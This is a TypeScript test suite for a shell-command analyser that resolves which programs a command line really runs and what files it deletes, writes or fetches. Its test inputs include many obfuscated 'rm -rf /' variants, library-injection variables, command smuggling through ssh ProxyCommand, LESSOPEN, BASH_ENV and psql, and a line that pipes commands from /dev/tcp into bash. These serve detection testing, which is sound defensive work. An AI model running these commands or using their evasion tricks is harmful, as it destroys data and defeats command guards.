import { describe, expect, test } from "bun:test";
import fc from "fast-check";
import { effectsOf } from "./programs.ts";
import { codeReader, withReaders } from "./readers.ts";
import { unfold } from "./unfold.ts";

await withReaders(codeReader);

const place = { cwd: "/ws", home: "/home/u", root: "/ws" };
const runs = (text: string) =>
  unfold(text, place).runs.map((run) => [run.program, ...run.args.map((arg) => arg.text)].join(" "));

describe("a command line unfolds to what will really run", () => {
  const cases: [string, string[]][] = [
    ["sudo -u root env A=1 nice -n 3 timeout 5 rm -rf /", ["rm -rf /"]],
    ["bash -c 'rm -rf \"$1\"' _ /", ["rm -rf /"]],
    ["D=/; rm -rf $D", ["rm -rf /"]],
    ["rm -rf ${X:-/}", ["rm -rf /"]],
    ["{rm,-rf,/}", ["rm -rf /"]],
    ["r'm' -r\"f\" $'\\x2f'", ["rm -rf /"]],
    ["rm${IFS}-rf${IFS}/", ["rm -rf /"]],
    ['a=(rm -rf /); "${a[@]}"', ["rm -rf /"]],
    ['f(){ rm -rf "$@"; }; f / /etc', ["rm -rf / /etc"]],
    ["alias x='rm -rf'; x /", ["rm -rf /"]],
    ["echo cm0gLXJmIC8= | base64 -d | sh", ["echo cm0gLXJmIC8=", "base64 -d", "rm -rf /"]],
    ["printf '\\x72\\x6d -rf /' | sh", ["printf \\x72\\x6d -rf /", "rm -rf /"]],
    ["find . -name '*.o' -exec rm {} \\;", ["find . -name *.o -exec rm {} ;", "rm ./*.o"]],
    ["echo / | xargs rm -rf", ["echo /", "rm -rf /"]],
    ["git -c alias.x='!rm -rf /' x", ["git -c alias.x=!rm -rf / x", "rm -rf /"]],
    ["for d in a b; do rm $d; done", ["rm a", "rm b"]],
    ["for d in $(git ls-files); do rm $d; done", ["git ls-files", "rm ./*"]],
    ['git ls-files | while IFS= read -r f; do rm "$f"; done', ["git ls-files", "rm ./*"]],
    ["find a b -name '*.o' | while read f; do rm $f; done", ["find a b -name *.o", "rm a/*.o", "rm b/*.o"]],
    ["LD_PRELOAD=/tmp/x.so ls", ["LD_PRELOAD /tmp/x.so", "ls"]],
    ["export NODE_OPTIONS='--require /a.js'; ls", ["NODE_OPTIONS /a.js", "ls"]],
    [
      "env DYLD_INSERT_LIBRARIES=/a.so:/b.so ls",
      ["DYLD_INSERT_LIBRARIES /a.so", "DYLD_INSERT_LIBRARIES /b.so", "ls"],
    ],
    ["NODE_OPTIONS='--require ts-node/register --inspect' ls", ["NODE_OPTIONS ts-node/register", "ls"]],
    ["if true; then rm a; else rm b; fi", ["true", "rm a", "rm b"]],
    ["echo 'rm -rf ~' > x.sh; bash x.sh", ["echo rm -rf ~", "bash x.sh", "rm -rf /home/u"]],
    ["trap 'rm -rf \"$T\"' EXIT; T=/tmp/x", ["rm -rf /tmp/x"]],
    [
      "python3 -c \"import os; os.system('rm -rf /')\"",
      ["python3 -c import os; os.system('rm -rf /')", "rm -rf /"],
    ],
  ];
  for (const [text, expected] of cases) test(text, () => expect(runs(text)).toEqual(expected));

  const variables: [string, string[]][] = [
    ["x=/et; x+=c; rm $x", ["rm /etc"]],
    ['a=(rm); a+=(-r x); "${a[@]}"', ["rm -r x"]],
    ['a[0]=rm; a[1]=x; "${a[@]}"', ["rm x"]],
    ["declare x=/et; declare x+=c; export x+=/a; rm $x", ["rm /etc/a"]],
    ["f() { local d=a; d+=b; rm $d; }; f; rm $d", ["rm ab", "rm $d"]],
    ["f() { d=a; }; f; rm $d", ["rm a"]],
    ["printf -v x '%s-%s' a b; rm $x", ["rm a-b"]],
    ["IFS=: read -r a b c <<< 'x:y:z:u'; rm $a $b $c", ["rm x y z:u"]],
    ["IFS=, read -ra w <<< 'rm,-r,x'; \"${w[@]}\"", ["rm -r x"]],
    ["mapfile -t l <<< $'a\nb'; rm \"${l[1]}\" ${#l[@]}", ["rm b 2"]],
    ["declare -n r=x; x=a; rm $r; r=b; rm $x", ["rm a", "rm b"]],
    ["declare -l x=ABC; rm $x; x=DEF; rm $x", ["rm abc", "rm def"]],
    ["declare -A m=([a]=x [b]=y); rm ${m[b]} ${!m[@]}", ["rm y a b"]],
    ["x=a1b2; rm ${x//[0-9]/} ${x/#a/c} ${x%[0-9]*} ${x##*b} ${x:1:2}", ["rm ab c1b2 a1b 2 1b"]],
    ["x=aB; rm ${x^^} ${x,,} ${x@U} ${x^}", ["rm AB ab AB AB"]],
    ["s=abc; o=; for ((i=${#s}-1;i>=0;i--)); do o+=${s:i:1}; done; rm $o", ["rm cba"]],
    ["set -- rm a b; shift; rm $1 ${@:2} $#", ["rm a b 2"]],
    ["((n=2, n*=3)); let n+=1; rm $n $((n%4))", ["rm 7 3"]],
    [': "${x:=a}"; rm $x', [": a", "rm a"]],
    ['ls -d /etc; rm "$_"', ["ls -d /etc", "rm /etc"]],
    ["while read -r d; do rm $d; done <<< $'a\nb'", ["rm a", "rm b"]],
    ["case $1 in a) d=x;; *) d=y;; esac; rm $d", ["rm y"]],
    ['f() { "$@"; }; f f f rm x', ["rm x"]],
    ["hash -p /bin/rm tidy; tidy x", ["rm x"]],
    ["cd /a; cd /b; cd -; rm $PWD", ["rm /a"]],
    ["IFS=,; rm a,b; c=x,y; rm $c", ["rm a,b", "rm x y"]],
  ];
  for (const [text, expected] of variables)
    test(`variables: ${text}`, () => expect(runs(text)).toEqual(expected));

  const started: [string, string[]][] = [
    ["docker run --rm -v a:/b -e X amazon/aws-cli:2 s3 ls", ["aws s3 ls"]],
    ["docker run --rm ubuntu:22.04 ls -la", ["ls -la"]],
    ["docker -H x container run -it --entrypoint sh img -c 'rm x'", ["rm x"]],
    ["podman run docker.io/hashicorp/terraform@sha256:0 plan", ["terraform plan"]],
    ["docker compose -f a.yml run --rm terraform plan", ["terraform plan"]],
    ["docker exec -it web ls", ["ls"]],
    ["kubectl run x --image=alpine/helm:3 -- ls", ["helm ls"]],
    ["kubectl -n a exec x -- ls", ["ls"]],
    ["parallel -j2 rm {} ::: a b", ["rm a", "rm b"]],
    ["parallel mv {1} {2}/{1} ::: a ::: x y", ["mv a x/a", "mv a y/a"]],
    ["parallel ::: 'rm a' 'rm b'", ["rm a", "rm b"]],
    ["echo d/a.txt | parallel rm {.} {/} {//}", ["echo d/a.txt", "rm d/a a.txt d"]],
    ["ls d | xargs -I% rm d/%", ["ls d", "rm d/*"]],
  ];
  const found: [string, string[]][] = [
    ["make -f - x <<< 'x: ; rm a'", ["rm a"]],
    ["printf 'x:\\n\\t@rm a\\n' > Makefile && make", ["rm a"]],
    ["just -f - <<< $'x:\\n  rm a'", ["rm a"]],
    ["at now <<< 'rm a'", ["rm a"]],
    ["tmux new -d 'cd src && rm a'", ["rm a"]],
    ["script -qc 'rm a' /dev/null", ["rm a"]],
    ["runuser -u root -- rm a", ["rm a"]],
    ["sometool --opt 3 rm -r /a", ["rm -r /a"]],
    ["nix run nixpkgs#terraform -- destroy", ["terraform destroy"]],
    ["start-stop-daemon --exec /bin/rm -- -rf /a", ["rm -rf /a"]],
    ["ssh -o ProxyCommand='rm a' h true", ["rm a"]],
    ["ssh localhost 'rm a'", ["rm a"]],
    ["ssh -o ProxyCommand='rm a' h <<< 1", ["rm a"]],
    ["LESSOPEN='|rm a' less x", ["rm a"]],
    ["echo 'rm a' | xargs -I{} sh -c '{}'", ["rm a"]],
    ["psql -c \"copy t to program 'rm a'\"", ["rm a"]],
    ["Rscript -e 'unlink(\"/a\", recursive=TRUE)'", ["rm -rf /a"]],
    ['elixir -e \'System.cmd("rm", ["-rf", "/a"])\'', ["rm -rf /a"]],
    ["python3 -m timeit \"import os; os.system('rm a')\"", ["rm a"]],
    ["test -v 'x[$(rm a)]'", ["rm a"]],
    ["BASH_ENV=<(echo 'rm a') bash -c true", ["rm a"]],
    ["echo 'rm a' > >(sh)", ["rm a"]],
    ["{ echo 'rm a'; } > >(bash -s)", ["rm a"]],
    ["echo 'rm a' > >(cat)", []],
    ["brew install git terraform", []],
    ["svn rm --force a", []],
    ["s5cmd rm 's3://b/*'", []],
  ];
  for (const [text, expected] of found)
    test(`finds: ${text}`, () =>
      expect(runs(text).filter((run) => /^(?:rm|terraform|git) /.test(run))).toEqual(expected));

  for (const [text, expected] of started) test(`starts: ${text}`, () => expect(runs(text)).toEqual(expected));

  test("a text of 200 KB is followed to its end", () => {
    expect(runs(`: ${"a".repeat(200_000)}; rm x`).at(-1)).toBe("rm x");
    const python = `python3 - <<'E'\n${"x = 1\n".repeat(30_000)}import os; os.system('rm x')\nE`;
    expect(runs(python).at(-1)).toBe("rm x");
  });

  test("what is opened on a descriptor is found there", () => {
    expect(runs("bash /dev/fd/3 3<<< 'rm x'")).toEqual(["rm x"]);
    expect(runs("exec 4<<< 'rm x'; sh <&4")).toEqual(["exec", "rm x"]);
    expect(runs("{ sh <&5; } 5<<< 'rm x'")).toEqual(["rm x"]);
    expect(runs("while read -ru 3 f; do rm $f; done 3<<< $'a\nb'")).toEqual(["rm a", "rm b"]);
    const fed = unfold("exec 3<>/dev/tcp/a/80; bash <&3", place).runs.at(-1)?.stdin;
    expect(fed?.from === "commands" && fed.commands[0]?.called).toBe("/dev/tcp/a/80");
  });

  test("errors sent away leave the output as it is", () => {
    expect(runs("echo x 2>/dev/null | xargs rm")).toEqual(["echo x", "rm x"]);
    expect(runs("echo x >/dev/null | xargs rm")).toEqual(["echo x", "rm"]);
  });

  test("what comes through a pipe keeps the place it was looked for in", () => {
    const deleted = (text: string) =>
      unfold(text, place)
        .runs.flatMap(effectsOf)
        .flatMap((effect) => (effect.do === "delete" ? [effect.path] : []));
    expect(deleted('find src -name "*.a" | sort | while read -r f; do rm "$f"; done')).toEqual(["src/*.a"]);
    expect(deleted("find ~ -name a -o -name b | xargs rm")).toEqual(["/home/u/a", "/home/u/b"]);
    expect(deleted("ls /x | grep y | xargs rm -r")).toEqual(["/x/*.found"]);
    expect(deleted("find . ! -name keep -path './dist/*' -exec rm {} +")).toEqual(["./dist/*"]);
    expect(deleted('cat list | while read -r f; do rm -r "$f"; done')).toEqual([undefined]);
  });

  test("words that are data stay data", () => {
    for (const text of [
      "echo 'rm -rf /'",
      "git commit -m 'rm -rf /'",
      "grep -r 'rm -rf /' .",
      "cat <<'EOF'\nrm -rf /\nEOF",
    ]) {
      expect([text, unfold(text, place).runs.some((run) => run.program === "rm")]).toEqual([text, false]);
    }
  });

  test("the working directory moves along the text, and not out of a subshell", () => {
    const at = (text: string) => unfold(text, place).runs.map((run) => run.cwd);
    expect(at("cd src && rm a; (cd .. && rm b); rm c; cd /tmp; rm d")).toEqual([
      "/ws/src",
      "/ws",
      "/ws/src",
      "/tmp",
    ]);
    expect(at('cd "$X" && rm a')).toEqual([undefined]);
  });

  test("what cannot be followed is said", () => {
    expect(unfold("echo $(rm -rf /", place).troubles).toEqual(["part of the text is no complete command"]);
    expect(unfold("x".repeat(300_000), place).troubles).toEqual(["the text is too long"]);
    expect(unfold("$(".repeat(100), place).troubles).toEqual(["the text is nested too deep"]);
    expect(unfold("$CMD x", place).runs[0]?.opaque).toBe(true);
  });
});

describe("effects", () => {
  const effects = (text: string) =>
    unfold(text, place)
      .runs.flatMap(effectsOf)
      .map((effect) => `${effect.do} ${"path" in effect ? effect.path : "url" in effect ? effect.url : ""}`);
  const cases: [string, string[]][] = [
    ["sed -i s/a/b/ x.txt", ["write x.txt"]],
    ["sed s/a/b/ x.txt", ["read x.txt"]],
    ["cp -t dir a b", ["read a", "read b", "write dir/a", "write dir/b"]],
    ["mv a b", ["delete a", "write b"]],
    ["echo x | tee -a y > z", ["write y", "write z"]],
    ["dd if=a of=b", ["write b", "read a"].toSorted((a, b) => (a < b ? -1 : 1))],
    ["tar xzf a.tgz -C out", ["write out"]],
    ["curl -o f https://e.test/x", ["fetch https://e.test/x", "write f"]],
    ["git clone https://e.test/r.git", ["fetch https://e.test/r.git", "write r"]],
    ['rm -rf "$X"', ["delete "]],
  ];
  for (const [text, expected] of cases) test(text, () => expect(effects(text)).toEqual(expected));
});

describe("whatever the text", () => {
  const wrapper = fc.constantFrom(
    "sudo ",
    "env A=1 ",
    "nohup ",
    "nice -n 5 ",
    "timeout 9 ",
    "time ",
    "command ",
    "exec ",
    "setsid ",
    "stdbuf -oL ",
    "ionice -c 3 ",
    "doas ",
    "busybox ",
    "xargs -r ",
  );
  const outer = fc.constantFrom(
    (text: string) => text,
    (text: string) => `( ${text} )`,
    (text: string) => `true && ${text}`,
    (text: string) => `if true; then ${text}; fi`,
    (text: string) => `x=$( ${text} )`,
    (text: string) => `bash -c '${text.replaceAll("'", `'\\''`)}'`,
    (text: string) => `eval '${text.replaceAll("'", `'\\''`)}'`,
    (text: string) => `for i in 1; do ${text}; done`,
    (text: string) => `cat <( ${text} )`,
  );

  test("a command stays what it is in any chain of wrappers", () => {
    fc.assert(
      fc.property(
        fc.array(wrapper, { maxLength: 4 }),
        fc.array(outer, { maxLength: 3 }),
        (wrappers, outers) => {
          const text = outers.reduce((inner, wrap) => wrap(inner), `${wrappers.join("")}rm -rf /`);
          expect(
            unfold(text, place).runs.some(
              (run) => run.program === "rm" && run.args.some((arg) => arg.text === "/"),
            ),
          ).toBe(true);
        },
      ),
    );
  });

  test("a quoted text is one word and runs nothing", () => {
    fc.assert(
      fc.property(fc.stringMatching(/^[ -&(-~]{1,60}$/), (word) => {
        const { runs: found } = unfold(`echo '${word}'`, place);
        expect(found.map((run) => run.program)).toEqual(["echo"]);
        expect(found[0]?.args.map((arg) => arg.text)).toEqual([word]);
      }),
    );
  });

  test("nothing throws", () => {
    const shellish = fc.array(
      fc.constantFrom(
        "$(",
        ")",
        "`",
        "'",
        '"',
        "{",
        "}",
        "|",
        "&&",
        ";",
        "<<E\n",
        "\nE\n",
        "rm",
        "-rf",
        "/",
        "$x",
        "${x:-",
        "a=(",
        "((",
        "))",
        "[[",
        "]]",
        "if ",
        "fi",
        "for i in ",
        "do ",
        "done",
        "\\",
        "\n",
        " ",
        "~",
        "*",
        "find . -exec ",
        "xargs ",
        "bash -c ",
        "eval ",
      ),
      { maxLength: 60 },
    );
    fc.assert(fc.property(fc.string(), (text) => void unfold(text, place).runs.map(effectsOf)));
    fc.assert(
      fc.property(shellish, (parts) => void unfold(parts.join(""), place).runs.map(effectsOf)),
      { numRuns: 500 },
    );
  });
});
